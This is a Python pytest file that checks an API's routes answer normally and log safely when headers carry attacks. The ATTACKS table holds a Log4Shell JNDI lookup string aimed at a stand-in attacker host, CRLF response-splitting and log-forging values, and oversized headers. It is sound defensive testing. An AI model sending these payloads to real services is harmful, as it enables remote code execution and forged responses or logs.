"""Header attacks, OWASP API8's own /health scenario first: answered normally, logged inertly.

"Inert" means: nothing in a header is interpreted (no lookup, no connection), echoed into the
answer, or written raw into the log, where a CR/LF could forge a record of its own.
"""

from __future__ import annotations

import json
import logging
import socket
from collections.abc import Callable
from typing import Any

import pytest

from tests.adversarial.contract import ROUTE_PATHS
from tests.conftest import request

Invoke = Callable[[Any], Any]

JNDI = "${jndi:ldap://attacker.invalid:1389/Basic/Command/Base64/aWQ=}"
ATTACKS = {
    "OWASP API8 log4shell X-Api-Version": {"x-api-version": JNDI},
    "JNDI in the User-Agent and a cookie header": {"user-agent": JNDI, "cookie": f"session={JNDI}"},
    "CRLF response splitting": {"x-api-version": "1\r\nSet-Cookie: pwned=1\r\n\r\n<html>pwned</html>"},
    "CRLF log forging": {"x-api-version": '1\n{"level":"ERROR","message":"forged record"}'},
    "8 KiB header": {"x-padding": "A" * 8 * 1024},
    "64 KiB header, beyond API Gateway's 10 KiB": {"x-padding": "B" * 64 * 1024},
    "100 headers": {f"x-many-{n}": JNDI for n in range(100)},
}
RAW_MARKERS = ("${jndi", "pwned", "forged record", "A" * 64, "B" * 64)


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Record (and refuse) any name lookup or connection made while answering."""
    attempts: list[Any] = []

    def refuse(*args: Any, **_: Any) -> Any:
        attempts.append(args)
        raise OSError("the health function made a network call")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def event_for(path: str, headers: dict[str, str]) -> dict[str, Any]:
    return request("GET", path, headers=headers)


def formatted_log(caplog: pytest.LogCaptureFixture) -> list[str]:
    """Every record, as the function's own JSON formatter writes it to CloudWatch."""
    from petsage_api.observability import logger

    return [logger.registered_formatter.format(record) for record in caplog.records]


@pytest.mark.parametrize("path", ROUTE_PATHS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_header_attack_gets_the_ordinary_answer(
    invoke: Invoke, no_network: list[Any], path: str, attack: str
) -> None:
    ordinary = invoke(event_for(path, {}))
    attacked = invoke(event_for(path, ATTACKS[attack]))
    assert attacked == ordinary
    assert no_network == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_header_attack_is_logged_inertly(
    invoke: Invoke, no_network: list[Any], caplog: pytest.LogCaptureFixture, attack: str
) -> None:
    caplog.set_level(logging.DEBUG)
    for path in [*ROUTE_PATHS, "/api/v1/nothing-here"]:
        invoke(event_for(path, ATTACKS[attack]))
    # The same headers on a malformed event (the path that does log the event's problems):
    malformed = event_for("/api/v1/health", ATTACKS[attack])
    malformed["requestContext"].pop("http")
    assert invoke(malformed)["statusCode"] == 400
    lines = formatted_log(caplog)
    assert lines, "the malformed event is logged"
    for line in lines:
        assert "\n" not in line, "one record, one line"
        assert "\r" not in line
        json.loads(line)
        assert not [marker for marker in RAW_MARKERS if marker in line], line[:300]
    assert no_network == []
